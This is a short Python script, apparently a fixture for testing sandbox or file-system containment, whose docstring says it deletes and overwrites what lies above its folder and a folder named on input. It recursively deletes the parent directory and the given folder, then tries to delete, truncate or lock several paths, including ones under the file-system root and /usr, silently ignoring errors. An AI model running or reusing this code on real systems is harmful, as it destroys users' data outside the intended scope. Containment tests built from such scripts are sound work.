"""Deletes and overwrites what is above its folder, and a folder that it is told about."""

import os
import shutil

victim = input()
for folder in ("..", victim):
    shutil.rmtree(folder, ignore_errors=True)
for path in (f"{victim}/precious", f"{victim}/hostile-left", "/hostile-left", "/usr/hostile-left"):
    for attempt in (os.remove, lambda p: open(p, "w").close(), lambda p: os.chmod(p, 0)):
        try:
            attempt(path)
        except OSError:
            pass
print("tried")
